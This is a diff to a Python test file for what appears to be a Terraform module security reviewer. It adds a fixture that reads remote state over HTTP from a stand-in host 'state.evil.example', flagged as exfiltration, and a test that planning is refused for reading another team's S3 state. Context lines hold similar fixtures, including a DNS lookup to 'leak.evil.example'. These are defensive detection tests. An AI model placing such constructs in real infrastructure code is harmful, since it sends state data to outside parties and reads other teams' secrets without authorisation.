@@ -100,6 +100,9 @@ CONSTRUCTS = [
     ("dns lookup",
      'data "dns_txt_record_set" "x" {\n  host = "leak.evil.example"\n}\n',
      "ARCHOPS_EXFIL_HTTP", "high", "host =", "leak.evil.example"),
+    ("remote state over http",
+     'data "terraform_remote_state" "s" {\n  backend = "http"\n  config = {\n    address = "https://state.evil.example/x"\n  }\n}\n',
+     "ARCHOPS_EXFIL_HTTP", "high", "config = {", "state.evil.example"),
     ("git module",
      'module "m" {\n  source = "git::https://github.com/evil/mod.git"\n}\n',
      "ARCHOPS_MODULE_SOURCE", "high", "source =", "git repository"),
@@ -312,3 +315,10 @@ def test_the_plan_never_reads_files_outside_the_module(expression: str) -> None:
     (finding,) = review.findings
     assert finding.failing and (finding.file, finding.line) == ("main.tf", 6)
     assert review.plan is None
+
+
+def test_the_plan_never_reads_another_state() -> None:
+    body = ('data "terraform_remote_state" "net" {\n  backend = "s3"\n  config = {\n'
+            '    bucket = "other-team-state"\n    key    = "net.tfstate"\n    region = "us-east-1"\n  }\n}\n')
+    review = review_module({"main.tf": body}, {"parse", "plan"})
+    assert [(f.check_id, f.line, f.failing) for f in review.findings] == [("plan_refused", 1, True)]
